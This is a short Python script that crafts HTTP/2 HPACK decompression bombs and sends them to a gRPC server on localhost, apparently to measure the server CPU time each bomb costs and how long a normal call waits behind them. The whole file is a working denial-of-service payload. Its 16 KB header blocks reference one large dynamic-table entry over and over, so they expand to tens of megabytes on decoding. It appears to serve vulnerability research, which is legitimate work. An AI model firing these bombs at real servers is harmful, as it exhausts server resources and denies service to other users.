#!/usr/bin/env python3
"""Server CPU per HPACK bomb: sends BOMBS header blocks (16 KB each, ~48 MB of fields once
decoded) on one connection to a gRPC server at 127.0.0.1:PORT, then one normal EmptyCall, and
prints the server's CPU time (from /proc/PID/stat) per bomb and how long the normal call waited.

usage: hpack_bomb.py PORT SERVER_PID [BOMBS]"""
import os, socket, struct, sys, time

def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def bomb(stream):
    block = bytes([0x40, 0x06]) + b"x-bomb" + bytes([0x7f, 0xa1, 0x1e]) + b"a" * 4000
    block += bytes([0xbe]) * (16384 - len(block))
    return frame(1, 0x4, stream, block)

def literal_headers(stream, fields):
    block = b"".join(bytes([0, len(n)]) + n + bytes([len(v)]) + v for n, v in fields)
    return frame(1, 0x4, stream, block)

def cpu_seconds(pid):
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

port, pid = int(sys.argv[1]), int(sys.argv[2])
bombs = int(sys.argv[3]) if len(sys.argv) > 3 else 64
s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
time.sleep(0.2)
before = cpu_seconds(pid)
start = time.monotonic()
payload = b"".join(bomb(2 * i + 1) for i in range(bombs))
normal = 2 * bombs + 1
fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/grpc.testing.TestService/EmptyCall"),
          (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"), (b"te", b"trailers")]
payload += literal_headers(normal, fields) + frame(0, 0x1, normal, b"\0\0\0\0\0")
s.sendall(payload)
received = b""
answered = None
s.settimeout(30)
while answered is None:
    chunk = s.recv(65536)
    if not chunk:
        break
    received += chunk
    offset = 0
    while offset + 9 <= len(received):
        length = int.from_bytes(received[offset:offset + 3], "big")
        kind, stream = received[offset + 3], int.from_bytes(received[offset + 5:offset + 9], "big") & 0x7fffffff
        if kind == 1 and stream == normal:
            answered = time.monotonic() - start
        offset += 9 + length
time.sleep(0.3)
spent = cpu_seconds(pid) - before
print(f"{bombs} bombs: server CPU {spent * 1000:.0f} ms ({spent * 1000 / bombs:.2f} ms per bomb); "
      f"normal call behind them answered after {answered * 1000:.1f} ms" if answered else "normal call not answered")
